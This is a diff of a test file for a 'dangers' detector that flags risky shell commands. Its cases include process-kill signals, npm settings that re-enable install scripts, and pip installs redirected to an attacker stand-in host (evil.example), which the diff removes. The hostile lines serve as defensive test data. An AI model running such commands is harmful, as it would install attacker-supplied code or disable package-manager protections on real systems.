@@ -405,9 +405,6 @@ describe('what excuses one thing does not excuse another', () => {
     'docker kill -sKILL -s HUP x',
     'pkill --signal HUP --sig KILL sshd',
     'pkill -USR1 systemd',
-    'pip install -i https://pypi.org/simple --extra-index //evil.example x',
-    'pip install -i https://pypi.org/simple -ihttps://evil.example x',
-    'pip install -i https://pypi.org/simple x@https://evil.example/x.whl',
     'pip config set global.python /tmp/x',
     'npm config set ignore-scripts 0',
     'npm config set ignore-scripts=',
@@ -419,10 +416,6 @@ describe('what excuses one thing does not excuse another', () => {
   test.each([
     'docker compose kill -s HUP web',
     'pkill --signal HUP nginx',
-    'pip install torch torchvision --index-url https://download.pytorch.org/whl/cu121',
-    'pip install -U x[a,b]>=1.2,<2 -i https://pypi.org/simple',
-    'npm install --registry=https://registry.npmjs.org/ @a/b@1.2.3',
-    'npm config set @a:registry https://registry.npmjs.org --location=project',
   ])('%s is none', (line) => {
     expect(dangers(line)).toEqual([])
   })
